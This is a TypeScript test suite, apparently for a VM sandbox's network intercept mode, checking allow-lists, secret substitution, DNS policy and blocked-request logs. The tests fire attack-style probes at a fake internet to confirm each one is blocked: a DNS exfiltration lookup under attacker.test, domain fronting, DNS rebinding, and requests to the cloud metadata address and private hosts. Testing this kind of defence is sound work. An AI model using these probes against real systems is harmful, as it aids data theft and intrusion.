import assert from "node:assert/strict";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { REPO, tempHome } from "../helpers/cli.ts";
import { importDebianImage } from "../helpers/debian.ts";
import { guestNet } from "../helpers/guest-net.ts";
import { createTopology, FAKE, FAKE_API_KEY, FAKE_PORTS, type Hit, type Topology } from "../helpers/netns.ts";

/**
 * Intercept mode from inside real VMs (SECURITY.md's network rows, NETWORK.md §6): allow-lists,
 * secrets swapped on the wire, DNS under policy, the decision log. Every matchlock process runs in
 * a test namespace whose only link leads to the fake internet (test/helpers/netns.ts); the owner
 * trusts the fake internet's CA through NODE_EXTRA_CA_CERTS, as a user's host trusts public CAs.
 * The guest image is Debian with curl, Python (urllib, requests) and Node, as real agents use.
 */

const h = tempHome();
const TAG = `mltest-intercept-${process.pid}:1`;
let t: Topology;

const { ml, sh, events } = guestNet(() => t, h);

async function startVm(flags: string[], extra: NodeJS.ProcessEnv = {}): Promise<string> {
  const r = await ml(["run", "-d", "--image", TAG, ...flags, "--", "sleep", "3600"], extra);
  assert.equal(r.code, 0, r.stderr);
  const id = r.stdout.toString().trim();
  // Probes used below: raw DNS over UDP/TCP to any resolver, and plain TCP/UDP/IPv6 dials.
  const put = await ml(["exec", "-i", id, "--", "sh", "-c", "cat > /tmp/probe.py"], {}, PROBE);
  assert.equal(put.code, 0, put.stderr);
  return id;
}

const PROBE = `
import socket, struct, sys
def q(name):
    qn = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qn + struct.pack(">HH", 1, 1)
cmd = sys.argv[1]
try:
    if cmd == "dns":
        name, server, proto = sys.argv[2], sys.argv[3], sys.argv[4]
        if proto == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
            s.sendto(q(name), (server, 53)); r = s.recv(4096)
        else:
            s = socket.create_connection((server, 53), timeout=5); m = q(name)
            s.sendall(struct.pack(">H", len(m)) + m); r = s.recv(4096)[2:]
        print("rcode=%d answers=%d" % (r[3] & 0xF, struct.unpack(">H", r[6:8])[0]))
    elif cmd == "tcp":
        s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)
        s.sendall(b"ping\\n"); print("connected", s.recv(100))
    elif cmd == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
        s.sendto(b"ping", (sys.argv[2], int(sys.argv[3]))); print("reply", s.recv(100))
    elif cmd == "tcp6":
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(5)
        s.connect((sys.argv[2], int(sys.argv[3]))); print("connected")
    elif cmd == "resolve":
        print("resolved", socket.gethostbyname(sys.argv[2]))
except Exception as e:
    print("failed", type(e).__name__, e)
`;

/** Hits since `mark` (an index into t.hits()). */
const since = (mark: number): Hit[] => t.hits().slice(mark);
const httpHits = (mark: number) =>
  since(mark).filter((x): x is Extract<Hit, { kind: "http" }> => x.kind === "http");

const API = "api.example.test";

before(async () => {
  t = await createTopology();
  await importDebianImage(h.env, TAG, { withNode: true });
});
after(async () => {
  await ml(["kill", "--all"]).catch(() => {});
  await ml(["gc"]).catch(() => {});
  await ml(["image", "rm", TAG]).catch(() => {});
  await t?.close();
  h.cleanup();
});

describe("an allow-list with a secret", () => {
  let a: string;
  let placeholder: string;
  before(async () => {
    a = await startVm(
      ["--allow-host", `${API},example.test`, "--allow-host", "rebind.test", "--secret", `API_KEY@${API}`],
      { API_KEY: FAKE_API_KEY },
    );
    placeholder = (await sh(a, 'printf %s "$API_KEY"')).trim();
  });
  after(async () => {
    await ml(["kill", a]);
  });

  test("the guest sees a placeholder; the secret's host receives the real key", async () => {
    assert.match(placeholder, /^SANDBOX_SECRET_[0-9a-f]{32}$/);
    const mark = t.hits().length;
    const out = await sh(a, `curl -sS -H "Authorization: Bearer $API_KEY" https://${API}/model`);
    assert.equal(out.trim(), '{"ok":true,"model":"fake"}');
    const hit = httpHits(mark).find((x) => x.path === "/model");
    assert.equal(hit?.sni, API);
    assert.equal(hit?.server, FAKE.web);
    assert.equal(hit?.headers.authorization, `Bearer ${FAKE_API_KEY}`);
  });

  test("a realistic agent: Python requests calls the model API with the placeholder", async () => {
    const out = await sh(
      a,
      `python3 -c 'import os, requests; r = requests.post("https://${API}/model", headers={"Authorization": "Bearer " + os.environ["API_KEY"]}, json={"prompt": "hi"}); print(r.status_code, r.json())'`,
    );
    assert.equal(out.trim(), "200 {'ok': True, 'model': 'fake'}");
  });

  test("curl, Python urllib and requests, and Node fetch all trust the VM's CA", async () => {
    const out = await sh(
      a,
      "curl -sS https://example.test/; " +
        `python3 -c 'import urllib.request; print(urllib.request.urlopen("https://example.test/").read().decode(), end="")'; ` +
        `python3 -c 'import requests; print(requests.get("https://example.test/").text, end="")'; ` +
        `node -e 'fetch("https://example.test/").then(r => r.text()).then(t => process.stdout.write(t))'; ` +
        "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS https://example.test/",
    );
    assert.equal(out, `hello from ${FAKE.web}\n`.repeat(5));
    const ca = await sh(
      a,
      "head -1 /etc/ssl/certs/matchlock-ca.crt; grep -c BEGIN /etc/ssl/certs/matchlock-ca.crt",
    );
    assert.match(ca, /^-----BEGIN CERTIFICATE-----\n\d+\n$/);
  });

  test("a host not in the allow-list: no name, no connection, and a reason in the log", async () => {
    const mark = t.hits().length;
    const out = await sh(
      a,
      "curl -sS https://other.test/ 2>&1; echo rc=$?; " +
        `curl -sS --resolve other.test:443:${FAKE.other} https://other.test/ 2>&1; echo rc=$?; ` +
        `curl -sS http://${FAKE.other}/; echo; python3 /tmp/probe.py tcp ${FAKE.other} ${FAKE_PORTS.echo}; ` +
        `python3 /tmp/probe.py udp ${FAKE.other} ${FAKE_PORTS.udpEcho}`,
    );
    assert.match(out, /Could not resolve host: other\.test/);
    assert.match(out, /rc=35|rc=56|rc=52/, "the TLS handshake is reset before any certificate");
    assert.match(out, /^Blocked by policy: host not in the allow-list$/m);
    assert.match(out, /^failed /m);
    await new Promise((r) => setTimeout(r, 1000));
    assert.deepEqual(
      since(mark).filter((x) => "server" in x && x.server === FAKE.other),
      [],
      "the other host saw nothing",
    );
    assert.deepEqual(
      since(mark).filter((x) => x.kind === "dns" && x.name === "other.test"),
      [],
      "the name never left the host",
    );
    const reasons = events(a)
      .filter((e) => e.network.blocked)
      .map((e) => `${e.network.protocol} ${e.network.host} ${e.network.block_reason}`);
    assert.ok(
      reasons.some((r) => /^dns other\.test .*allow/.test(r)),
      reasons.join("\n"),
    );
    assert.ok(reasons.some((r) => /^https other\.test TLS server name not in the allow-list/.test(r)));
    assert.ok(reasons.some((r) => r === `http ${FAKE.other} host not in the allow-list`));
    assert.ok(reasons.some((r) => r.startsWith(`tcp ${FAKE.other} not in the allow-list`)));
  });

  test("DNS exfiltration: a lookup of <data>.attacker.test never reaches a resolver, whichever is asked", async () => {
    const mark = t.hits().length;
    const out = await sh(
      a,
      "python3 /tmp/probe.py resolve c2VjcmV0.attacker.test; " +
        `python3 /tmp/probe.py dns udp1.attacker.test ${FAKE.resolver} udp; ` +
        `python3 /tmp/probe.py dns tcp1.attacker.test ${FAKE.resolver} tcp; ` +
        `python3 /tmp/probe.py dns udp2.attacker.test 198.51.100.99 udp`,
    );
    assert.match(out, /^failed gaierror/m);
    assert.equal(out.match(/^rcode=3 answers=0$/gm)?.length, 3, out);
    await new Promise((r) => setTimeout(r, 500));
    assert.deepEqual(
      since(mark).filter((x) => x.kind === "dns" && x.name.endsWith("attacker.test")),
      [],
    );
  });

  test("an allowed name dialled at the attacker's address reaches the real host, never the attacker", async () => {
    const mark = t.hits().length;
    const out = await sh(
      a,
      `curl -sS --resolve ${API}:443:${FAKE.other} https://${API}/; ` +
        `curl -sS --resolve ${API}:80:${FAKE.other} http://${API}/`,
    );
    assert.equal(out, `hello from ${FAKE.web}\n`.repeat(2));
    await new Promise((r) => setTimeout(r, 500));
    assert.deepEqual(
      since(mark).filter((x) => "server" in x && x.server === FAKE.other),
      [],
    );
  });

  test("domain fronting: an allowed SNI with another Host gets 421 and no secret", async () => {
    const mark = t.hits().length;
    const out = await sh(
      a,
      `curl -sS -o /dev/null -w '%{http_code}\\n' -H 'Host: other.test' -H "Authorization: Bearer $API_KEY" https://${API}/headers`,
    );
    assert.equal(out.trim(), "421");
    assert.deepEqual(httpHits(mark), []);
  });

  test("the placeholder sent to a host that is not the secret's: 403 in a header, the query or the path", async () => {
    const mark = t.hits().length;
    const out = await sh(
      a,
      "for u in headers 'query?k='$API_KEY $API_KEY; do " +
        `curl -sS -o /dev/null -w '%{http_code}\\n' -H "X-Key: $( [ "$u" = headers ] && echo $API_KEY )" https://example.test/$u; done`,
    );
    assert.equal(out, "403\n403\n403\n");
    assert.deepEqual(httpHits(mark), [], "nothing left the host");
    const leaks = events(a).filter((e) => /secret API_KEY/.test(String(e.network.block_reason)));
    assert.ok(leaks.length >= 3);
    for (const e of leaks) assert.ok(!String(e.network.url).includes("?"), "event URLs carry no query");
  });

  test("an upstream that echoes the swapped header: the guest still sees only the placeholder", async () => {
    const out = await sh(
      a,
      `curl -sS -i -H "Authorization: Bearer $API_KEY" https://${API}/headers; curl -sS "https://${API}/query?key=$API_KEY"`,
    );
    assert.match(out, new RegExp(`\\{"query":"key=${placeholder}"\\}`), "the echoed query is scrubbed too");
    assert.ok(!out.includes(FAKE_API_KEY), out);
    assert.match(out, new RegExp(`^x-echo-authorization: Bearer ${placeholder}\\r?$`, "im"));
    assert.match(out, new RegExp(`"authorization":"Bearer ${placeholder}"`));
  });

  test("DNS rebinding in intercept mode: an allowed name answering a private address is refused", async () => {
    const mark = t.hits().length;
    const out = await sh(a, "curl -sS http://rebind.test/ 2>&1; echo rc=$?");
    assert.match(out, /rc=(6|7)/);
    assert.deepEqual(
      since(mark).filter((x) => "server" in x && x.server === FAKE.private),
      [],
    );
  });

  test("IPv6 egress goes nowhere", async () => {
    const out = await sh(
      a,
      "curl -6 -sS https://example.test/ 2>&1; echo rc=$?; python3 /tmp/probe.py tcp6 64:ff9b::cb00:710a 443",
    );
    assert.match(out, /rc=(6|7)/);
    assert.match(out, /^failed /m);
  });

  test("plain TCP: allowed toward an allowed name's address, refused elsewhere (DoT included)", async () => {
    const out = await sh(
      a,
      `python3 /tmp/probe.py tcp example.test ${FAKE_PORTS.echo}; python3 /tmp/probe.py tcp ${FAKE.resolver} 853`,
    );
    assert.match(out, /^connected b'ping\\n'$/m);
    assert.match(out, /^failed /m);
    const dot = events(a).find((e) => e.network.host === FAKE.resolver && e.network.port === 853);
    assert.equal(dot?.network.blocked, true);
  });

  test("host services stay unreachable through the gateway, on any port, 80 and 443 included", async () => {
    const gw = (
      await sh(a, "ip route 2>/dev/null || awk '$2==\"00000000\"{print $3}' /proc/net/route")
    ).trim();
    const hex = gw.match(/^[0-9A-F]{8}$/)
      ? (gw.match(/../g) ?? [])
          .reverse()
          .map((b) => Number.parseInt(b, 16))
          .join(".")
      : gw;
    const out = await sh(
      a,
      `python3 /tmp/probe.py tcp ${hex} ${FAKE_PORTS.hostService}; python3 /tmp/probe.py tcp ${FAKE.hostUplink} ${FAKE_PORTS.hostService}; ` +
        `curl -sS -o /dev/null -w '%{http_code}\\n' http://${hex}/; curl -sS https://${hex}/ 2>&1; echo rc=$?`,
    );
    assert.doesNotMatch(out, /host-service/);
    assert.match(out, /^403$/m, "HTTP to the gateway's address is refused by the allow-list");
    assert.doesNotMatch(out, /rc=0/);
    assert.equal(t.hits().filter((x) => x.kind === "host-service").length, 0);
    const host = events(a).filter((e) => e.network.block_reason === "an address of the host");
    assert.ok(host.length >= 2, JSON.stringify(host));
  });

  test("CONNECT is refused", async () => {
    const out = await sh(a, "curl -sS -p -x http://example.test:80 https://example.test/ 2>&1; echo rc=$?");
    assert.match(out, /405|CONNECT/);
    assert.doesNotMatch(out, /rc=0/);
  });

  test("an upgrade (as WebSocket does) passes the policy checks, then both ways flow", async () => {
    const ws = (host: string) =>
      `python3 -c 'import socket, ssl; ctx = ssl.create_default_context(); ` +
      `s = ctx.wrap_socket(socket.create_connection(("${host}", 443)), server_hostname="${host}"); ` +
      `s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: ${host}\\r\\nUpgrade: echo\\r\\nConnection: Upgrade\\r\\n\\r\\n"); ` +
      `print(s.recv(200).split(b"\\r\\n")[0]); s.sendall(b"hello over the upgrade"); print(s.recv(100))' 2>&1 | tail -2`;
    const mark = t.hits().length;
    const out = await sh(a, `${ws("example.test")}; ${ws("other.test")}`);
    assert.match(out, /^b'HTTP\/1\.1 101 Switching Protocols'\nb'hello over the upgrade'\n/);
    assert.match(out, /(SSLError|ConnectionResetError|gaierror)/, "a host not allowed gets no upgrade");
    const hit = httpHits(mark).find((x) => x.method === "UPGRADE");
    assert.equal(hit?.host, "example.test");
    assert.equal(httpHits(mark).length, 1);
  });

  test("server-sent events stream through the proxy as they are sent", async () => {
    const script =
      'const t0=Date.now();const r=await fetch("https://example.test/sse?n=4&gapMs=400");const times=[];' +
      'for await (const c of r.body){for(const l of new TextDecoder().decode(c).split(String.fromCharCode(10)))if(l.startsWith("data:"))times.push(Date.now()-t0)}' +
      "console.log(JSON.stringify(times))";
    const out = await sh(a, `node --input-type=module -e '${script}'`);
    const times = JSON.parse(out.trim()) as number[];
    assert.equal(times.length, 4, out);
    assert.ok((times[3] as number) - (times[0] as number) >= 1000, `the first event came early: ${out}`);
  });

  test("the real secret is nowhere on disk: not in state.db, the VM's logs, events or `get`", async () => {
    const get = await ml(["get", a]);
    assert.equal(get.code, 0);
    assert.ok(!get.stdout.toString().includes(FAKE_API_KEY));
    assert.match(get.stdout.toString(), new RegExp(placeholder));
    const files = [join(h.home, "state.db"), ...listFiles(join(h.home, "vms", a))];
    for (const f of files) {
      assert.ok(!readFileSync(f).includes(FAKE_API_KEY), `${f} holds the secret`);
    }
  });

  test("`matchlock events` says why each request was blocked", async () => {
    const r = await ml(["events", a, "--blocked"]);
    assert.equal(r.code, 0, r.stderr);
    const text = r.stdout.toString();
    assert.match(text, /BLOCKED dns other\.test — .*allow-list/);
    assert.match(text, /BLOCKED https GET https:\/\/example\.test\/query — secret API_KEY sent to a host/);
    assert.match(
      text,
      /BLOCKED https GET https:\/\/other\.test\/headers — Host "other\.test" does not match the TLS server name "api\.example\.test"/,
    );
    assert.doesNotMatch(text, /^\S+ allowed /m, "--blocked shows only blocks");
    const json = await ml(["events", a, "--json"]);
    const all = json.stdout
      .toString()
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { type: string; network: { blocked: boolean; status_code: number } });
    assert.ok(all.every((e) => e.type === "network"));
    assert.ok(all.some((e) => !e.network.blocked && e.network.status_code === 200));
  });
});

function listFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    const st = statSync(p);
    return st.isDirectory() ? listFiles(p) : st.isFile() && st.size < 64 * 1024 * 1024 ? [p] : [];
  });
}

describe("--network-intercept with an empty list", () => {
  let b: string;
  before(async () => {
    // A secret with no hosts is for every host, and leaves the list empty (secret hosts would join it).
    b = await startVm(["--network-intercept", "--secret", "TOKEN=inline-t0ken-value"]);
  });
  after(async () => {
    await ml(["kill", b]);
  });

  test("every public host is allowed, the private floor still holds, and the inline secret works", async () => {
    const mark = t.hits().length;
    const out = await sh(
      b,
      "curl -sS https://example.test/; curl -sS https://other.test/; " +
        `curl -sS -o /dev/null -w '%{http_code}\\n' http://${FAKE.private}/; ` +
        "curl -sS -o /dev/null -w '%{http_code}\\n' http://169.254.169.254/latest/meta-data/; " +
        `python3 /tmp/probe.py tcp ${FAKE.private} ${FAKE_PORTS.echo}; ` +
        'curl -sS -H "X-T: $TOKEN" https://other.test/headers',
    );
    // The relay accepts every guest connection before it knows where it was going: a refused one is
    // closed at once, with nothing sent either way.
    assert.match(
      out,
      new RegExp(`^hello from ${FAKE.web}\\nhello from ${FAKE.other}\\n403\\n403\\n(failed |connected b'')`),
    );
    assert.match(out, /"x-t":"SANDBOX_SECRET_[0-9a-f]{32}"/, "the echo is scrubbed back to the placeholder");
    const hit = httpHits(mark).find((x) => x.path === "/headers");
    assert.equal(hit?.headers["x-t"], "inline-t0ken-value");
    const floor = events(b).find((e) => e.network.protocol === "tcp" && e.network.host === FAKE.private);
    assert.equal(floor?.network.block_reason, "private (RFC 1918)");
    assert.deepEqual(
      since(mark).filter((x) => "server" in x && x.server === FAKE.private),
      [],
    );
  });
});

test("allow-list add and delete take effect while a request loop runs", async () => {
  const c = await startVm(["--allow-host", "example.test"]);
  try {
    await sh(
      c,
      "nohup sh -c 'while :; do curl -s -o /dev/null -w \"%{http_code}\\n\" https://other.test/ >> /tmp/loop; sleep 0.2; done' >/dev/null 2>&1 &",
    );
    const lines = async () => (await sh(c, "cat /tmp/loop")).trim().split("\n");
    const waitFor = async (code: string) => {
      const start = (await lines()).length;
      for (let i = 0; i < 60; i++) {
        const l = await lines();
        if (l.slice(start).includes(code)) return;
        await new Promise((r) => setTimeout(r, 500));
      }
      assert.fail(`no ${code} in the loop after the change: ${(await lines()).join(" ")}`);
    };
    const add = await ml(["allow-list", "add", c, "other.test,*.other.test"]);
    assert.equal(add.code, 0, add.stderr);
    assert.equal(
      add.stdout.toString(),
      "added: other.test, *.other.test\nallowed hosts: example.test, other.test, *.other.test\n",
    );
    await waitFor("200");
    const del = await ml(["allow-list", "delete", c, "other.test"]);
    assert.equal(del.stdout.toString(), "removed: other.test\nallowed hosts: example.test, *.other.test\n");
    await waitFor("000");
    const bad = await ml(["allow-list", "add", c, "https://x.test/"]);
    assert.equal(bad.code, 1);
    assert.match(bad.stderr, /URL/);
    const open = await ml(["run", "-d", "--image", TAG, "--", "sleep", "60"]);
    const openId = open.stdout.toString().trim();
    const refused = await ml(["allow-list", "add", openId, "x.test"]);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /no allowlist: its network is not in intercept mode/);
    await ml(["kill", openId]);
  } finally {
    await ml(["kill", c]);
  }
});

test("the SDK: allow-list add/delete, typed event callbacks, and an empty host list refused", async () => {
  const program = `
    import { Client, Sandbox } from ${JSON.stringify(join(REPO, "dist", "sdk", "index.js"))};
    const events = [];
    const c = new Client({ onEvent: (e) => events.push(e) });
    await c.launch(new Sandbox(${JSON.stringify(TAG)}).allowHost("example.test").addSecret("K", "sk-sdk-secret-value", "${API}"));
    const code = "curl -s -o /dev/null -w '%{http_code} ' https://other.test/; echo $K";
    const before = (await c.exec(code)).stdout;
    let empty;
    try { await c.allowListAdd(); } catch (e) { empty = e.code + " " + e.message; }
    const add = await c.allowListAdd("other.test");
    const during = (await c.exec(code)).stdout;
    const del = await c.allowListDelete("other.test");
    await c.close();
    await c.remove();
    console.log(JSON.stringify({ before, empty, add, during, del, events }));
  `;
  const r = await t.execInHost(process.execPath, ["--input-type=module", "-e", program], {
    env: { ...h.env, NODE_EXTRA_CA_CERTS: t.caFile },
    timeoutMs: 240_000,
  });
  assert.equal(r.code, 0, r.stderr);
  const out = JSON.parse(r.stdout.toString()) as {
    before: string;
    empty: string;
    add: unknown;
    during: string;
    del: unknown;
    events: Array<{ type: string; timestamp: number; network: Record<string, unknown> }>;
  };
  assert.match(out.before, /^000 SANDBOX_SECRET_[0-9a-f]{32}\n$/);
  assert.match(out.empty, /^-32602 .*hosts is empty/);
  assert.deepEqual(out.add, { added: ["other.test"], allowedHosts: ["example.test", API, "other.test"] });
  assert.match(out.during, /^200 /);
  assert.deepEqual(out.del, { removed: ["other.test"], allowedHosts: ["example.test", API] });
  // Before the add, other.test did not even resolve: the block is DNS's.
  const blocked = out.events.find((e) => e.network.blocked && e.network.protocol === "dns");
  assert.equal(blocked?.type, "network", JSON.stringify(out.events));
  assert.equal(blocked?.network.host, "other.test");
  const allowed = out.events.find((e) => !e.network.blocked && e.network.protocol === "https");
  assert.equal(allowed?.network.status_code, 200);
  assert.equal(allowed?.network.url, "https://other.test/");
  assert.ok(Number.isInteger(allowed?.timestamp));
  assert.ok(!r.stdout.toString().includes("sk-sdk-secret-value"), "events never carry a secret");
});
